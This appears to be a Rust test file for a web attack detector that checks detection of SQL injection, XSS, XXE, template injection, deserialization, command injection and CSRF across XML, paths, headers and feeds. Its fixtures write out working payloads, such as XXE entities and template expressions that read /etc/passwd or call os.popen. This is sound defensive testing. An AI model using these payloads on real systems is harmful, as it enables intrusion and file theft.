//! Where in a request an attack stands: inside XML, in a part of a path, in a name, and what a browser says of where a
//! request comes from.

use std::collections::BTreeMap;

use watchpost_detect::{Verdict, inspect_request};

fn headers(all: &[(&str, &str)]) -> BTreeMap<String, String> {
    all.iter().map(|&(name, value)| (name.to_owned(), value.to_owned())).collect()
}

fn xml(content_type: &str, body: &str) -> Verdict {
    inspect_request("POST", "/api/orders", &headers(&[("Content-Type", content_type)]), Some(body))
}

fn names(verdict: &Verdict) -> Vec<&'static str> {
    verdict.categories.iter().map(|family| family.as_str()).collect()
}

#[test]
fn attacks_inside_of_xml_are_values_of_their_own() {
    for (body, family, field) in [
        (r#"<?xml version="1.0"?><o><item id="1' or '1'='1"/></o>"#, "sqli", "http.body.id"),
        ("<o><host>10.0.0.1; cat /etc/issue</host></o>", "cmdi", "http.body.host"),
        ("<o><note>&lt;script&gt;alert(1)&lt;/script&gt;</note></o>", "xss", "http.body.note"),
        ("<o><note><![CDATA[1 union select 1,2,3]]></note></o>", "sqli", "http.body.note"),
        (
            "<s:Body><s:file href='..&#x2f;..&#x2f;..&#x2f;etc/passwd'/></s:Body>",
            "traversal",
            "http.body.href",
        ),
        ("<o><page>ftp://x.example/a.inc</page></o>", "rfi", "http.body.page"),
    ] {
        for content_type in ["application/xml", "application/soap+xml; charset=utf-8", "text/plain"] {
            let verdict = xml(content_type, body);
            assert!(names(&verdict).contains(&family), "{content_type} {body}: {:?}", names(&verdict));
            let fields: Vec<&str> = verdict
                .findings
                .iter()
                .filter(|found| found.family.as_str() == family)
                .filter_map(|found| Some(found.matched.as_ref()?.field.as_str()))
                .collect();
            assert!(fields.contains(&field) || fields.contains(&"http.body"), "{body}: {fields:?}");
        }
    }
}

#[test]
fn documents_without_an_attack_are_left_alone() {
    for body in [
        r#"<?xml version="1.0" encoding="UTF-8"?><order id="17"><item sku="A-9" n="2">Tea &amp; "more"</item></order>"#,
        "<soap:Envelope xmlns:soap='http://www.w3.org/2003/05/soap-envelope'><soap:Body><Get><Id>5</Id></Get></soap:Body></soap:Envelope>",
        "<plans><name>Select a plan from the list</name><updated>2026-03-02T10:00:00Z</updated><see at='https://example.org/a?b=1'/></plans>",
        "<methodCall><methodName>shop.order</methodName><params><param><value>O'Neill &amp; sons</value></param></params></methodCall>",
        "<config><path>images/logo.png</path><range from='1' to='10'/><expr>a &lt; b</expr></config>",
    ] {
        let verdict = xml("application/xml", body);
        let found: Vec<&str> = verdict.findings.iter().map(|found| found.rule_id.as_str()).collect();
        assert!(found.is_empty(), "{body}: {found:?}");
    }
}

#[test]
fn a_part_of_a_path_is_a_value_where_it_has_marks() {
    for (path, family) in [
        ("/users/1'%20or%20'1'='1/orders", "sqli"),
        ("/users/24'+union+all+select+1,2,3+from+accounts", "sqli"),
        ("/ping/10.0.0.1;id", "cmdi"),
        ("/run/phpinfo()", "php"),
        ("/show/%24%7Bjndi:ldap:%2f%2fx.example%7D", "java"),
    ] {
        let verdict = inspect_request("GET", path, &BTreeMap::new(), None);
        assert!(names(&verdict).contains(&family), "{path}: {:?}", names(&verdict));
    }
    for path in [
        "/docs/etc/passwd-policy.html",
        "/wiki/O'Neill_(actor)",
        "/files/Report%20(final).pdf",
        "/a/b;v=1.1/c",
        "/shop/{id}/items",
        "/%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82/(1)",
    ] {
        let verdict = inspect_request("GET", path, &BTreeMap::new(), None);
        assert!(!verdict.is_detected(), "{path}: {:?}", verdict.findings);
    }
}

#[test]
fn attacks_on_what_reads_names_are_found_in_names() {
    for (header, body) in [
        (("Cookie", "rO0ABQ=test"), None),
        (("Cookie", "KztAAU=test; theme=dark"), None),
        (("Content-Type", "application/json"), Some(r#"{"KztAAU": "test"}"#)),
        (("Content-Type", "application/x-www-form-urlencoded"), Some("Cs7QAF=test")),
    ] {
        let verdict = inspect_request("POST", "/x", &headers(&[header]), body);
        assert!(names(&verdict).contains(&"java"), "{header:?} {body:?}: {:?}", names(&verdict));
    }
}

/// Only what a page can send without asking is a forgery: a POST of a form's type, with the user's session.
#[test]
fn requests_that_another_site_made_the_browser_send() {
    let session = ("Cookie", "theme=dark; sessionid=4f1c9a");
    let form = ("Content-Type", "application/x-www-form-urlencoded");
    let cross = ("Sec-Fetch-Site", "cross-site");
    type Case<'a> = (&'a str, &'a [(&'a str, &'a str)], bool);
    let cases: [Case<'_>; 12] = [
        ("POST", &[session, form, cross], true),
        ("POST", &[session, ("Content-Type", "text/plain;charset=UTF-8"), cross], true),
        ("POST", &[session, cross], true),
        ("POST", &[session, form, ("Origin", "null")], true),
        ("GET", &[session, cross], false),
        ("HEAD", &[session, cross], false),
        ("OPTIONS", &[session, cross, ("Access-Control-Request-Method", "POST")], false),
        ("PUT", &[session, cross, ("Content-Type", "application/json")], false),
        ("POST", &[form, cross], false),
        ("POST", &[session, form, ("Sec-Fetch-Site", "same-site")], false),
        ("POST", &[session, form, ("Sec-Fetch-Site", "same-origin"), ("Origin", "null")], false),
        ("POST", &[session, form, ("Sec-Fetch-Site", "none")], false),
    ];
    for (method, all, expect) in cases {
        let verdict = inspect_request(method, "/transfer", &headers(all), Some("to=17&amount=5"));
        let is_found = verdict.findings.iter().any(|found| found.rule_id == "wp.csrf.cross_site");
        assert_eq!(is_found, expect, "{method} {all:?}");
    }
    let sign_on = inspect_request("POST", "/auth/saml/acs", &headers(&[session, form, cross]), Some("a=b"));
    assert!(!sign_on.is_detected(), "sign-on answers come from another site: {:?}", sign_on.findings);
}

#[test]
fn a_class_in_prose_weighs_less_than_one_in_code() {
    let of = |text: &str| {
        let body = serde_json::json!({ "comment": text }).to_string();
        let verdict =
            inspect_request("POST", "/x", &headers(&[("Content-Type", "application/json")]), Some(&body));
        let java = |found: &&watchpost_model::finding::Finding| found.family.as_str() == "java";
        verdict.findings.iter().filter(java).map(|found| found.risk).max().unwrap_or(0)
    };
    let prose = of("Our docs say that java.lang.Runtime should be mentioned on the page about processes.");
    let code = of("java.lang.Runtime.getRuntime().exec('id')");
    assert!(prose < 25 && code >= 70, "prose {prose}, code {code}");
}

const FEEDS: [&str; 3] = [
    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>News</title>\
     <link href=\"https://shop.example/\"/><entry><title>Boots</title><link rel=\"alternate\" href=\"/boots\"/>\
     <id>tag:shop.example,2026:7</id><summary type=\"text\">New boots</summary></entry></feed>",
    "<rss version=\"2.0\"><channel><title>News</title><link>https://shop.example/</link><item><title>Boots</title>\
     <link>https://shop.example/boots</link><description><![CDATA[New boots]]></description></item></channel></rss>",
    "<opml version=\"2.0\"><head><title>Feeds</title></head><body><outline text=\"News\" \
     xmlUrl=\"https://shop.example/feed\"/></body></opml>",
];

#[test]
fn a_feed_is_no_page() {
    let found = |kind: &str, body: &str| -> Vec<String> {
        let verdict = inspect_request("POST", "/feeds", &headers(&[("Content-Type", kind)]), Some(body));
        verdict.findings.into_iter().map(|found| found.rule_id).collect()
    };
    for feed in FEEDS {
        for kind in ["application/atom+xml", "text/xml", "application/octet-stream"] {
            assert_eq!(found(kind, feed), Vec::<String>::new(), "{feed}");
        }
        // What is written into it is looked at, and so is what is not of a feed.
        for (from, to) in [
            ("News", "&lt;script&gt;alert(1)&lt;/script&gt;"),
            ("https://shop.example/", "javascript:alert(document.cookie)//"),
            ("<title>", "<title><script>alert(1)</script>"),
            ("<title>", "<title><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>"),
            ("<title>", "<title onclick='alert(1)'>"),
            ("News", "x' or '1'='1"),
        ] {
            let attack = feed.replacen(from, to, 1);
            assert!(!found("application/atom+xml", &attack).is_empty(), "{attack}");
        }
        let entity = format!("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>{feed}");
        assert!(!found("text/xml", &entity).is_empty(), "{entity}");
    }
    // The same elements outside of a feed are pieces of a page.
    assert!(!found("text/plain", "<title>x</title><link href=\"//x.example/a.css\"/>").is_empty());
}

/// A feed with extensions whose entry says `html`, in the three ways in which feeds do.
fn feeds_of(html: &str) -> [String; 3] {
    let escaped = html.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;");
    let rss = |description: &str| {
        format!(
            "<?xml version=\"1.0\"?>\n<rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\" \
             xmlns:dc=\"http://purl.org/dc/elements/1.1/\" xmlns:atom=\"http://www.w3.org/2005/Atom\"><channel>\
             <title>News</title><atom:link href=\"https://shop.example/feed\" rel=\"self\" type=\"application/rss+xml\"/>\
             <item><title>Boots</title><dc:creator>Ann</dc:creator>{description}</item></channel></rss>"
        )
    };
    [
        rss(&format!("<description><![CDATA[{html}]]></description>")),
        rss(&format!("<description>Short</description><content:encoded>{escaped}</content:encoded>")),
        format!(
            "<feed xmlns=\"http://www.w3.org/2005/Atom\" xmlns:media=\"http://search.yahoo.com/mrss/\"><title>t</title>\
             <entry><media:thumbnail url=\"https://i.example/x.jpg\" width=\"480\"/><content type=\"html\">{escaped}</content>\
             </entry></feed>"
        ),
    ]
}

#[test]
fn what_a_feed_publishes_is_no_attack_and_what_is_hidden_in_it_is() {
    let found = |body: &str| -> Vec<String> {
        let headers = headers(&[("Content-Type", "application/rss+xml")]);
        let verdict = inspect_request("POST", "/feeds", &headers, Some(body));
        verdict.findings.into_iter().map(|found| found.rule_id).collect()
    };
    for html in [
        "<p>Hello <a href=\"https://shop.example/a?b=1&amp;c=2\" rel=\"nofollow\">there</a>, see <img src=\"/i.png\" alt=\"it\"/><br/></p>",
        "<h2 id=\"top\">News</h2><ul><li>one</li></ul><table><tr><td style=\"color: red\">two</td></tr></table>",
    ] {
        for feed in feeds_of(html) {
            assert_eq!(found(&feed), Vec::<String>::new(), "{feed}");
        }
    }
    for html in [
        "<p>x</p><script>alert(1)</script>",
        "<img src=\"x\" onerror=\"alert(1)\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<base href=\"https://evil.example/\">",
        "<p>x' or '1'='1</p>",
        "<p>;cat /etc/passwd</p>",
    ] {
        for feed in feeds_of(html) {
            assert!(!found(&feed).is_empty(), "{feed}");
        }
    }
    let page = "<rss xmlns:media=\"http://www.w3.org/1999/xhtml\"><channel><media:script>alert(1)</media:script></channel></rss>";
    assert!(!found(page).is_empty(), "a page under the name of an extension");
}

#[test]
fn a_php_name_in_prose_weighs_less_than_one_in_code() {
    let of = |text: &str| {
        let body = serde_json::json!({ "comment": text }).to_string();
        let verdict =
            inspect_request("POST", "/x", &headers(&[("Content-Type", "application/json")]), Some(&body));
        verdict.findings.iter().map(|found| (found.risk, found.severity)).max().expect("it is told of")
    };
    let prose = of("Replace file_get_contents() by the client of our own in the importer of the shop");
    assert!(prose.0 < 25 && prose.1 <= watchpost_model::event::Severity::Low, "{prose:?}");
    for code in [
        "file_get_contents('/etc/passwd')",
        "phpinfo();",
        "Replace the words of the importer with file_get_contents('/etc/passwd') and see what comes of it",
    ] {
        assert!(of(code).0 >= 60, "{code}: {:?}", of(code));
    }
}

/// What the tokeniser of its own family confirms is named so, and not as what its words look like beside it.
#[test]
fn a_payload_has_the_name_of_its_family() {
    let xml = [("Content-Type", "application/xml")];
    let xxe =
        r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#;
    for (uri, body, family) in [
        ("/c?name={{7*7}}", None, "ssti"),
        ("/c?name={{config.__class__.__init__.__globals__['os'].popen('id').read()}}", None, "ssti"),
        ("/c?name={{''.__class__.__mro__[2].__subclasses__()}}&again={{7*7}}", None, "ssti"),
        (r#"/c?data=O:8:"stdClass":1:{s:4:"test";s:6:"system";}"#, None, "php"),
        ("/c?d=!!python/object/apply:os.system ['cat /etc/passwd']", None, "deserialization"),
        ("/c", Some("cos\nsystem\n(S'cat /etc/passwd'\ntR."), "deserialization"),
        ("/c", Some(xxe), "xxe"),
    ] {
        let told = inspect_request("POST", uri, &headers(if family == "xxe" { &xml } else { &[] }), body);
        assert_eq!(names(&told), [family], "{uri} {body:?}");
    }
    // In another value the same words are an attack of their own.
    let two = inspect_request("GET", "/c?name={{7*7}}&host=x;cat /etc/passwd", &BTreeMap::new(), None);
    assert!(names(&two).contains(&"ssti") && names(&two).contains(&"cmdi"), "{:?}", names(&two));
}

/// Statements without a mark in headers that no application names.
#[test]
fn statements_in_headers_of_any_name_are_seen() {
    for value in ["2 and 3=3", "1 union select 1,2", "1 UNION SELECT a,b FROM c"] {
        let told = inspect_request("GET", "/c", &headers(&[("X-Tenant", value)]), None);
        assert_eq!(names(&told), ["sqli"], "{value}");
    }
    let calm = [
        ("Keep-Alive", "timeout=5, max=1000"),
        ("Cache-Control", "max-age=0, private"),
        ("Via", "1.1 proxy-a, 1.1 proxy-b"),
        ("X-Plan", "select one of the plans"),
    ];
    let told = inspect_request("GET", "/c", &headers(&calm), None);
    assert!(told.categories.is_empty(), "{:?}", names(&told));
}

#[test]
fn numbers_that_are_greater_and_less_are_no_statement() {
    let calm = ["5<6 and 7>3", "1 < 2 or 3 >= 2"];
    for text in calm {
        let uri = format!("/c?email=o'neill@example.com&cmt={text}");
        let told = inspect_request("GET", &uri, &BTreeMap::new(), None);
        assert!(told.categories.is_empty(), "{text}: {:?}", names(&told));
    }
    for text in ["1 or 7>3", "1 and 1=1", "5<6 and 7>3--", "1' or 5<6 and 7>3--"] {
        let told = inspect_request("GET", &format!("/c?cmt={text}"), &BTreeMap::new(), None);
        assert_eq!(names(&told), ["sqli"], "{text}");
    }
}
